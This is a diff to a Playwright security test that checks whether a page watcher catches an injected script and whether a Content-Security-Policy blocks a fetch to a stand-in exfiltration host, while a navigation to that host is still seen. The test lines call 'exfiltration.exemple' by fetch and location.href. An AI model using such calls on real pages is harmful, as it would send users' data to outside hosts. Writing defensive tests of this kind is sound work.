@@ -211,9 +211,15 @@ def test_the_watch_would_see_a_script(watched, hostile_site: str) -> None:
     # The listeners work: a page that does run a payload is caught.
     page, watch = watched
     page.goto(f"{hostile_site}fiches/piege.html")
-    page.evaluate("() => { setTimeout(() => alert('vu'), 0); fetch('https://exfiltration.exemple/').catch(() => 0); }")
+    page.evaluate("() => { setTimeout(() => alert('vu'), 0); }")
     page.wait_for_timeout(500)
     assert watch.dialogs == ["vu"]
+    # A fetch to another site no longer leaves the page at all: the Content-Security-Policy
+    # (builder/csp.py) refuses it first. A navigation, which the policy does not govern, is seen.
+    refused = page.evaluate("() => fetch('https://exfiltration.exemple/').then(() => false, () => true)")
+    assert refused and watch.outside == []
+    page.evaluate("() => { location.href = 'https://exfiltration.exemple/'; }")
+    page.wait_for_timeout(500)
     assert watch.outside == ["https://exfiltration.exemple/"]
 
 
